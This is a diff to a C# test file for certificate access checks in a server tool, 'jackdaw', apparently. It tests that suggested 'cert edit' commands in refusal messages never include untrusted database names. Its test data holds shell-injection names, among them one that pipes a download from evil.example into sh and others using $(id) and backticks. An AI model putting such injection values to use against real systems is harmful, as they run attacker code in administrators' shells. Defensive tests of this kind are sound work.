@@ -63,10 +63,35 @@ public sealed class CertificateCallerTests : IDisposable
             $"PUT /docs needs the access ReadWrite to database 'Orders', which certificate 'Ann' (thumbprint {ann.Thumbprint}) with the clearance ValidUser "
             + "does not have. A cluster administrator grants it with: "
             + $"jackdaw cert edit {ann.Thumbprint} --clearance=ValidUser --database=Orders:ReadWrite");
-        AssertRefused(ann, Access.Read, "my shop", "--clearance=ValidUser '--database=my shop:Read'");
         AssertRefused(ann, Access.Operator, "", $"needs the access Operator, which certificate 'Ann'", "--clearance=Operator");
         AssertRefused(ann, Access.ClusterAdmin, "", "--clearance=ClusterAdmin");
         AssertRefused(ann, Access.Node, "", "Only another server of the cluster has it.");
+    }
+
+    /// <summary>The advice is copied into shells of administrators, and the name may be a stranger's.</summary>
+    [Theory]
+    [InlineData("x';curl evil.example|sh;'")]
+    [InlineData("x$(id)")]
+    [InlineData("x y")]
+    [InlineData("x\ny")]
+    [InlineData("-x`id`")]
+    [InlineData("täglich")]
+    public void Demand_NameThatNoDatabaseCanHave_IsNotInTheAdvisedCommand(string name)
+    {
+        using X509Certificate2 ann = _authority.Issue("ann"), eve = _authority.Issue("eve");
+        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
+        AssertRefused(ann, Access.Read, name, $"jackdaw cert edit {ann.Thumbprint} --clearance=ValidUser --database=NAME:Read");
+        AssertRefused(eve, Access.Read, name, "--clearance=ValidUser --database=NAME:Read");
+    }
+
+    /// <summary>The list knows the certificate that was renewed.</summary>
+    [Fact]
+    public void Demand_RenewedCertificate_AdvisesToEditTheEntry()
+    {
+        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
+        using X509Certificate2 ann = _authority.Issue("ann", key), renewed = _authority.Issue("ann", key);
+        _registry.Put(KnownCertificate.From(ann, "Ann", s_reader));
+        AssertRefused(renewed, Access.Admin, "Orders", $"jackdaw cert edit {ann.Thumbprint} ");
     }
 
     [Fact]
